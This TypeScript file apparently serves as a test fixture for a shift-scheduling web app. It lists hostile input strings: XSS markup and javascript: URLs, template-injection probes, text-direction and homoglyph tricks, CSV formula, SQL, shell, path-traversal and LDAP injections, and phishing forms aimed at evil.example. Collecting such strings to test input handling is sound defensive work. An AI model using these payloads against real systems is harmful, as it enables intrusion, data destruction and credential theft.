/**
 * What somebody who wants to do harm, or a form that lets anything through, may put where a name or a text belongs.
 * Written as escapes wherever the character itself would not be seen here, or would turn this file's own lines around.
 */

const run = "globalThis.hacked=1";

/** Markup that runs where text is taken for HTML. */
const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `--><img src=x onerror=${run}>`,
  `]]><img src=x onerror=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</option></select><img src=x onerror=${run}>`,
  `</template><img src=x onerror=${run}>`,
  `</details></dialog><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=https://evil.example target=_blank>Sign in again</a>`,
  `<form action=https://evil.example><input name=password><button>Go</button></form>`,
  `<button formaction="javascript:${run}" form=x>x</button>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>*{display:none!important}</style>`,
  `<style>:host{position:fixed;inset:0}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<div id=heading>x</div>`,
  `<slot name=failed></slot>`,
  `<coop-shift-status backend=https://evil.example></coop-shift-status>`,
  `<plaintext>`,
  `<!--`,
  `<![CDATA[x]]>`,
  `<?xml version="1.0"?>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&Tab;&NewLine;&colon;&nbsp;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
];

/** Addresses that run or show something else, where they become links. */
export const hostileUrls = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\tjava\nscript:${run}`,
  `java\u0000script:${run}`,
  `\u0001javascript:${run}`,
  `javascript://coop.example/%0a${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `blob:https://coop.example/1`,
  `file:///etc/passwd`,
  `filesystem:https://coop.example/x`,
  `view-source:https://coop.example`,
  `intent://x#Intent;scheme=http;end`,
  `about:blank`,
  `ftp://coop.example/x`,
];

/** What template engines, frameworks and string replacements would take as theirs. */
const templates = [
  "${globalThis.hacked=1}",
  "`;globalThis.hacked=1;`",
  "{{constructor.constructor('globalThis.hacked=1')()}}",
  "{{7*7}}",
  "<%= 7 * 7 %>",
  "#{7*7}",
  "*{7*7}",
  "[[${7*7}]]",
  "{%raw%}{{x}}",
  "$&$1$`$'$$",
  "%s%d%n%x%p",
  "{0} {name} {{name}}",
  "<!--?lit$1$-->",
  "lit$0000000$",
  "?lit$",
];

/** Marks that turn the direction of text, or stand for nothing. */
const invisible = [
  "\u202egnp.exe",
  "\u202dabc\u202c",
  "\u2067right to left\u2069",
  "\u2066\u2067\u2068never closed",
  "\u202e\u202e\u202e\u202enever closed",
  "\u200fmark\u200e",
  "\u061carabic mark",
  "مرحبا بالعالم",
  "שלום עולם 123 abc",
  "zero\u200bwidth\u200cjoiner\u200dx\u2060\ufeff",
  "\u200b",
  "\u00ad\u00ad\u00adsoft",
  "\u2028line\u2029paragraph",
  "\u0085next line",
  "\u3164\u115f\u1160",
  "\u{e0041}\u{e0042}\u{e0043}tags",
  "paypa\u0142 \u0430\u0440\u0440\u04cf\u0435",
  "\ufff9annotated\ufffabase\ufffb",
];

const stacked = "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030a\u030b\u030c\u0323\u0324\u0325\u0326";

/** What is hard to lay out. */
const shapes = [
  `Z${stacked.repeat(20)}a${stacked.repeat(20)}lgo`,
  "W".repeat(10_000),
  "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(200),
  "\u{1f1e7}\u{1f1ea}".repeat(300),
  "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
  "\u{1f44b}\u{1f3fd}\u{1f44b}\u{1f3ff}",
  "\u{12031}\u{12031}\u{12031}\u{12031}\u{12031}\u{12031}",
  "\ufdfd".repeat(30),
  "a\u00a0".repeat(500),
  "\u2014".repeat(2000),
  "_".repeat(3000),
  "https://coop.example/".concat("a/".repeat(1500)),
  "word ".repeat(1000),
  "漢字".repeat(800),
  "ไทย".repeat(500),
  "\t".repeat(50).concat("tabs"),
  "\n".repeat(40).concat("lines"),
];

/** Parts of characters, and characters that no text should have. */
const broken = [
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff",
  "a\ud83d",
  "\udc00\ud800",
  "\ufffe\uffff",
  "\u0007\u0008\u001b[31mred\u001b[0m",
  "\u007f\u0080\u009f",
  "\ufffd\ufffd",
];

/** What other formats than HTML would take as theirs: calendars, tables, databases, headers, files. */
const formats = [
  "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
  "a\nATTENDEE:mailto:evil@evil.example",
  "a\\nb\\,c\\;d\\\\",
  'a;b,c:d"e"',
  "a\r\n b\r\n\tc",
  "a\r\nX-Injected: 1\r\n\r\n<script>",
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example","x")',
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "'; DROP TABLE workers; --",
  "' OR '1'='1",
  "1; SELECT pg_sleep(10)",
  '"); DELETE FROM shifts; --',
  "\\'; --",
  "$$;$body$",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd\u0000.png",
  "%2e%2e%2f%2e%2e%2f",
  "a?b=c&d#e",
  "a%00b%zz",
  "$(touch /tmp/x)`id`|cat&&:;",
  '{"$ne":null}',
  '"},{"id":"injected","x":{"',
  "*)(uid=*))(|(uid=*",
];

/** Names that objects have of their own. */
const prototypes = [
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "__defineGetter__",
  "then",
  "toJSON",
  "length",
];

/** Every one of them, each once. */
export const hostileStrings: readonly string[] = [
  ...markup,
  ...hostileUrls,
  ...templates,
  ...invisible,
  ...shapes,
  ...broken,
  ...formats,
  ...prototypes,
];
